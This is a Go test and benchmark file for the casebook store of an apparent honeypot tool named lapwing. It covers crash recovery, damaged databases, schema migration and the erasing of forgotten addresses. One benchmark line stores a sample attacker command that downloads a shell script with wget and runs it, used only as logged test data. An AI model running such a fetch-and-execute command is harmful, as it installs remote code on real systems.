package casebook_test

import (
	"bytes"
	"context"
	"database/sql"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/klauspost/compress/zstd"

	"github.com/lapwing-defence/lapwing/internal/alert"
	"github.com/lapwing-defence/lapwing/internal/casebook"
	"github.com/lapwing-defence/lapwing/internal/casebook/casebooktest"
	"github.com/lapwing-defence/lapwing/internal/event"
)

const killMe = "LAPWING_CASEBOOK_WRITER"

func TestMain(m *testing.M) {
	if file := os.Getenv(killMe); file != "" {
		writeUntilKilled(file)
	}
	os.Exit(m.Run())
}

func open(tb testing.TB, file string) *casebook.SQLite {
	tb.Helper()
	b, err := casebook.Open(tb.Context(), casebook.Config{File: file, Check: true})
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { b.Close() })
	return b
}

func TestSuite(t *testing.T) {
	dirs := map[string]string{}
	casebooktest.Run(t, func(t *testing.T) casebook.Book {
		t.Helper()
		if dirs[t.Name()] == "" {
			dirs[t.Name()] = t.TempDir()
		}
		return open(t, filepath.Join(dirs[t.Name()], "casebook.db"))
	})
}

// writeUntilKilled grows one alert; the position says how far. It prints what
// was acknowledged.
func writeUntilKilled(file string) {
	ctx := context.Background()
	b, err := casebook.Open(ctx, casebook.Config{File: file})
	if err != nil {
		panic(err)
	}
	p, err := b.Position(ctx)
	if err != nil {
		panic(err)
	}
	n, _ := strconv.Atoi(p)
	for {
		var batch casebook.Batch
		for range 7 {
			n++
			e := casebooktest.Event(n, "198.51.100.7", casebooktest.ID(1), event.ActionCommandExecuted)
			batch.Index(e)
			batch.Alert(casebooktest.Alert(1, "198.51.100.7", int64(n)), e)
		}
		batch.Position = strconv.Itoa(n)
		if err := b.Apply(ctx, &batch); err != nil {
			panic(err)
		}
		fmt.Println(n)
	}
}

// TestKill kills a writer: what it acknowledged is there, and position, alert
// and session agree, so that nothing is judged twice or skipped.
func TestKill(t *testing.T) {
	file := filepath.Join(t.TempDir(), "casebook.db")
	rounds := 6
	if os.Getenv("LAPWING_SOAK") != "" {
		rounds = 60
	}
	for round := range rounds {
		c := exec.Command(os.Args[0])
		c.Env = append(os.Environ(), killMe+"="+file)
		var out bytes.Buffer
		c.Stdout = &out
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		time.Sleep(time.Duration(150+37*round%100) * time.Millisecond)
		c.Process.Kill()
		c.Wait()
		acked := 0
		if l := strings.Fields(out.String()); len(l) > 0 {
			acked, _ = strconv.Atoi(l[len(l)-1])
		}
		b := open(t, file)
		p, err := b.Position(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		at, _ := strconv.Atoi(p)
		if at < acked {
			t.Fatalf("round %d: %d acknowledged, the book is at %d", round, acked, at)
		}
		if at == 0 {
			continue
		}
		a, err := b.Alert(t.Context(), casebooktest.ID(1001))
		if err != nil || a.Count != int64(at) {
			t.Fatalf("round %d: position %d, alert %+v, %v", round, at, a, err)
		}
		b.Sessions(t.Context(), casebook.Query{}, func(s *casebook.Session) error {
			if s.Commands != int64(at) {
				t.Errorf("round %d: position %d, %d commands", round, at, s.Commands)
			}
			return nil
		})
		b.Close()
	}
}

func TestDamage(t *testing.T) {
	for _, tt := range []struct {
		name string
		do   func(t *testing.T, file string)
		want error
		say  string
	}{
		{"not a database", func(_ *testing.T, file string) { os.WriteFile(file, bytes.Repeat([]byte("nonsense"), 1000), 0o600) }, casebook.ErrDamaged, "lapwing restore"},
		{"another program's", func(t *testing.T, file string) { t.Helper(); run(t, file, "CREATE TABLE x (y)") }, casebook.ErrDamaged, "another program"},
		{"newer", func(t *testing.T, file string) {
			t.Helper()
			open(t, file).Close()
			run(t, file, "PRAGMA user_version = 999")
		}, casebook.ErrNewer, "schema 999"},
		{"a broken page", func(t *testing.T, file string) {
			t.Helper()
			b := open(t, file)
			var batch casebook.Batch
			for n := range 500 {
				batch.Alert(casebooktest.Alert(n, "198.51.100.7", 1), casebooktest.Event(n, "198.51.100.7", "", event.ActionLogin))
			}
			if err := b.Apply(t.Context(), &batch); err != nil {
				t.Fatal(err)
			}
			b.Close()
			f, _ := os.OpenFile(file, os.O_RDWR, 0)
			defer f.Close()
			for off := int64(4096 * 20); off < 4096*60; off += 512 {
				f.WriteAt(bytes.Repeat([]byte{0xa5}, 300), off)
			}
		}, casebook.ErrDamaged, "lapwing restore"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "casebook.db")
			tt.do(t, file)
			b, err := casebook.Open(t.Context(), casebook.Config{File: file, Check: true})
			if err == nil {
				b.Close()
			}
			if !errors.Is(err, tt.want) || !strings.Contains(err.Error(), tt.say) || !strings.Contains(err.Error(), file) {
				t.Errorf("got %v", err)
			}
		})
	}
	if _, err := casebook.Open(t.Context(), casebook.Config{File: filepath.Join(t.TempDir(), "no", "such", "dir")}); err == nil {
		t.Error("a casebook without a directory opens")
	}
}

func run(t *testing.T, file, query string) {
	t.Helper()
	db, err := sql.Open("sqlite", file)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.Exec(query); err != nil {
		t.Fatal(err)
	}
}

// TestForgottenBytes looks for a forgotten address in the files themselves.
func TestForgottenBytes(t *testing.T) {
	dir := t.TempDir()
	b := open(t, filepath.Join(dir, "casebook.db"))
	const secret = "198.51.100.77"
	for round := range 30 {
		var batch casebook.Batch
		for n := range 20 {
			src := fmt.Sprintf("203.0.113.%d", n)
			if n%3 == 0 {
				src = secret
			}
			a := casebooktest.Alert(n, src, int64(round+1))
			a.Title = strings.Repeat(src+" ", round%7+1)
			e := casebooktest.Event(round*100+n, src, casebooktest.ID(n), event.ActionCommandExecuted)
			e.CommandLine = strings.Repeat(src+" ", round)
			batch.Alert(a, e)
			batch.Index(e)
			batch.State(casebook.State{Key: src, Source: e.Source.Addr(), Data: []byte(a.Title), Seen: e.Time})
		}
		if err := b.Apply(t.Context(), &batch); err != nil {
			t.Fatal(err)
		}
	}
	found := func() (n int) {
		files, _ := filepath.Glob(filepath.Join(dir, "*"))
		for _, f := range files {
			data, _ := os.ReadFile(f)
			n += bytes.Count(data, []byte(secret))
		}
		return n
	}
	if found() == 0 {
		t.Fatal("the address is nowhere before: this test shows nothing")
	}
	s, _ := casebook.ParseSource(secret)
	gone, err := b.Forget(t.Context(), s, "alias")
	if err != nil || gone.Alerts != 7 {
		t.Fatalf("%+v, %v", gone, err)
	}
	if n := found(); n > 0 {
		t.Errorf("the forgotten address is still there %d times", n)
	}
}

func TestParseSource(t *testing.T) {
	for in, want := range map[string]string{
		"198.51.100.7": "198.51.100.7", "::ffff:198.51.100.7": "198.51.100.7", "198.51.100.7/32": "198.51.100.7",
		"2001:db8::7": "2001:db8::/64", "2001:db8::/64": "2001:db8::/64", "198.51.100.0/24": "", "2001:db8::/48": "",
		"": "", "root": "", "fe80::1%eth0": "", casebooktest.ID(7): casebooktest.ID(7),
	} {
		s, err := casebook.ParseSource(in)
		if s.String() != want || (err == nil) != (want != "") {
			t.Errorf("%q: got %q, %v, want %q", in, s, err, want)
		}
	}
}

// Many alerts go with one statement: those that are there already, and new
// ones between them, in no order of their rows.
func TestEachOfManyAlertsKeepsItsOwnEvidence(t *testing.T) {
	b := open(t, filepath.Join(t.TempDir(), "casebook.db"))
	login := func(n int) *event.Event {
		return casebooktest.Event(n, "198.51.100.7", "", event.ActionLogin)
	}
	var odd, all casebook.Batch
	for n := 1; n < 75; n += 2 {
		odd.Alert(casebooktest.Alert(n, "198.51.100.7", 1), login(n))
	}
	for n := 74; n >= 0; n-- {
		all.Alert(casebooktest.Alert(n, "198.51.100.7", int64(1+n%2)), login(100+n))
	}
	for _, batch := range []*casebook.Batch{&odd, &all} {
		if err := b.Apply(t.Context(), batch); err != nil {
			t.Fatal(err)
		}
	}
	for n := range 75 {
		want := []string{casebooktest.ID(100 + n)}
		if n%2 == 1 {
			want = []string{casebooktest.ID(n), casebooktest.ID(100 + n)}
		}
		a, err := b.Alert(t.Context(), casebooktest.ID(1000+n))
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(want, a.Events); diff != "" {
			t.Errorf("alert %d (-want +got):\n%s", n, diff)
		}
	}
}

func TestHugeEventsAreBoundedEvidence(t *testing.T) {
	b := open(t, filepath.Join(t.TempDir(), "casebook.db"))
	var batch casebook.Batch
	e := casebooktest.Event(1, "198.51.100.7", "", event.ActionCommandExecuted)
	e.CommandLine = strings.Repeat("é\x1b", 300_000)
	for i := range 400 {
		e.Add(fmt.Sprintf("lapwing.x%d", i), strings.Repeat("y", 1000))
	}
	batch.Alert(casebooktest.Alert(1, "198.51.100.7", 1), e)
	if err := b.Apply(t.Context(), &batch); err != nil {
		t.Fatal(err)
	}
	a, err := b.Alert(t.Context(), casebooktest.ID(1001))
	if err != nil || len(a.Evidence) != 1 || len(a.Evidence[0]) > 33<<10 {
		t.Fatalf("%d lines, %v", len(a.Evidence), err)
	}
	if got, err := event.Decode(a.Evidence[0]); err != nil || got.ID != e.ID {
		t.Errorf("got %+v, %v", got, err)
	}
}

func BenchmarkApply(b *testing.B) {
	for _, size := range []int{100, 2000} {
		b.Run(strconv.Itoa(size), func(b *testing.B) {
			book := open(b, filepath.Join(b.TempDir(), "casebook.db"))
			n := 0
			for b.Loop() {
				var batch casebook.Batch
				for range size {
					n++
					src := fmt.Sprintf("10.%d.%d.%d", n>>16&255, n>>8&255, n&255)
					e := casebooktest.Event(n, src, casebooktest.ID(n), event.ActionCommandExecuted)
					e.CommandLine = "cd /tmp; wget http://198.51.100.9/a.sh; sh a.sh"
					batch.Index(e)
					batch.Alert(casebooktest.Alert(n, src, 1), e)
				}
				if err := book.Apply(b.Context(), &batch); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "alerts/s")
		})
	}
}

func BenchmarkSessions(b *testing.B) {
	book := open(b, filepath.Join(b.TempDir(), "casebook.db"))
	for k := range 50 {
		var batch casebook.Batch
		for n := range 2000 {
			batch.Index(casebooktest.Event(k*2000+n, "198.51.100.7", casebooktest.ID(k*2000+n), event.ActionSessionStarted))
		}
		if err := book.Apply(b.Context(), &batch); err != nil {
			b.Fatal(err)
		}
	}
	for _, last := range []int{20, 0} {
		b.Run("last="+strconv.Itoa(last), func(b *testing.B) {
			for b.Loop() {
				n := 0
				book.Sessions(b.Context(), casebook.Query{Last: last}, func(*casebook.Session) error { n++; return nil })
				if want := last; n != want && want > 0 || want == 0 && n != 100_000 {
					b.Fatal(n)
				}
			}
		})
	}
}

// A casebook as version 2 wrote it is brought to the present one.
func TestMigration(t *testing.T) {
	file := filepath.Join(t.TempDir(), "casebook.db")
	old, err := os.ReadFile("testdata/v2.sql")
	if err != nil {
		t.Fatal(err)
	}
	run(t, file, string(old))
	b := open(t, file)
	a, err := b.Alert(t.Context(), casebooktest.ID(1001))
	if err != nil {
		t.Fatal(err)
	}
	ids := []string{"01a2109e-7c87-7cfd-9319-838796ad5c56", "another"}
	if d := cmp.Diff(ids, a.Events); d != "" {
		t.Error(d)
	}
	if len(a.Evidence) != 2 || !strings.Contains(string(a.Evidence[0]), ids[0]) || string(a.Evidence[1]) != `{"event.id":"another"}` {
		t.Errorf("evidence %s", a.Evidence)
	}
	carried(t, b)
	e := casebooktest.Event(3, "192.0.2.1", casebooktest.ID(2), event.ActionCommandExecuted)
	var batch casebook.Batch
	grown := *a
	grown.Count = 3
	batch.Alert(grown, e)
	if err := b.Apply(t.Context(), &batch); err != nil {
		t.Fatal(err)
	}
	if a, err = b.Alert(t.Context(), casebooktest.ID(1001)); err != nil || len(a.Evidence) != 3 || a.Events[2] != e.ID {
		t.Fatalf("grown: %+v, %v", a, err)
	}
	s, _ := casebook.ParseSource(casebooktest.ID(2))
	gone, err := b.Forget(t.Context(), s, "alias")
	if err != nil || gone.Evidence != 2 || gone.Alerts != 0 {
		t.Fatalf("%+v, %v", gone, err)
	}
	if a, err = b.Alert(t.Context(), casebooktest.ID(1001)); err != nil || len(a.Evidence) != 1 || a.Events[0] != "another" {
		t.Errorf("what is left: %+v, %v", a, err)
	}
}

// carried looks for the sessions and states of testdata/v2.sql.
func carried(t *testing.T, b casebook.Book) {
	t.Helper()
	at := func(ns int64) time.Time { return time.Unix(0, ns).UTC() }
	want := []casebook.Session{
		{
			ID: casebooktest.ID(2), Source: netip.MustParseAddr("192.0.2.1"), Host: "files", Decoy: "ssh", User: "root", Kind: "exec",
			Start: at(1700000000000000005), End: at(1700000002000000000), Last: at(1700000003000000000), Commands: 3, Files: 2, Depth: 4,
		},
		{
			ID: "an older id", Source: netip.MustParseAddr("2001:db8::7"), Host: "files", Decoy: "telnet", User: "admin", Kind: "shell",
			Start: at(1700000001000000000), Last: at(1700000001500000000), Depth: 3,
		},
	}
	var got []casebook.Session
	if err := b.Sessions(t.Context(), casebook.Query{}, func(s *casebook.Session) error { got = append(got, *s); return nil }); err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(want, got, cmp.Comparer(func(x, y netip.Addr) bool { return x == y })); d != "" {
		t.Error(d)
	}
	for key, data := range map[string]string{
		"p 00112233445566778899aabbccddeeff": `{"seen":"2023-11-14T22:13:20Z"}`, "s 192.0.2.1/32": `{"tries":3}`, "s 2001:db8::/64": `{"tries":4}`,
	} {
		s, ok, err := b.Recall(t.Context(), key)
		if err != nil || !ok || string(s.Data) != data || s.Seen.Unix()/64*64 != s.Seen.Unix() || s.Seen.Unix() < 1699999936 || !s.Source.IsValid() {
			t.Errorf("%s: %+v, %v, %v", key, s, ok, err)
		}
	}
}

// TestPacks looks into the packs themselves: what an alert let go of and what
// was forgotten is in none of them, and nobody else's lines went with it.
func TestPacks(t *testing.T) {
	file := filepath.Join(t.TempDir(), "casebook.db")
	b := open(t, file)
	const secret, other = "198.51.100.77", "203.0.113.5"
	for round := range 40 {
		var batch casebook.Batch
		for i := range 10 {
			n := round*10 + i + 1
			for k, src := range []string{secret, other} {
				batch.Alert(casebooktest.Alert(k+1, src, int64(n)), casebooktest.Event(n*2+k, src, casebooktest.ID(n), event.ActionCommandExecuted))
			}
		}
		if err := b.Apply(t.Context(), &batch); err != nil {
			t.Fatal(err)
		}
	}
	s, _ := casebook.ParseSource(secret)
	if gone, err := b.Forget(t.Context(), s, "alias"); err != nil || gone.Evidence != alert.MaxEvents {
		t.Fatalf("%+v, %v", gone, err)
	}
	a, err := b.Alert(t.Context(), casebooktest.ID(1002))
	if err != nil || len(a.Evidence) != alert.MaxEvents {
		t.Fatalf("%d lines, %v", len(a.Evidence), err)
	}
	for i, l := range a.Evidence {
		if e, err := event.Decode(l); err != nil || e.ID != a.Events[i] || e.Source.Addr().String() != other {
			t.Fatalf("line %d: %s, %v, want event %s", i, l, err, a.Events[i])
		}
	}
	b.Close()
	lines := unfold(t, file)
	if len(lines) != alert.MaxEvents {
		t.Errorf("%d lines are in the packs", len(lines))
	}
	for _, l := range lines {
		if strings.Contains(l, secret) {
			t.Errorf("still there: %s", l)
		}
	}
}

// unfold gives all lines that are in the packs of a file.
func unfold(t *testing.T, file string) (lines []string) {
	t.Helper()
	db, err := sql.Open("sqlite", file)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	rows, err := db.Query("SELECT data FROM packs")
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	d, _ := zstd.NewReader(nil)
	defer d.Close()
	for rows.Next() {
		var data []byte
		if err := rows.Scan(&data); err != nil {
			t.Fatal(err)
		}
		text, err := d.DecodeAll(data, nil)
		if err != nil {
			t.Fatal(err)
		}
		for l := range strings.Lines(string(text)) {
			if l != "\n" {
				lines = append(lines, l)
			}
		}
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	return lines
}
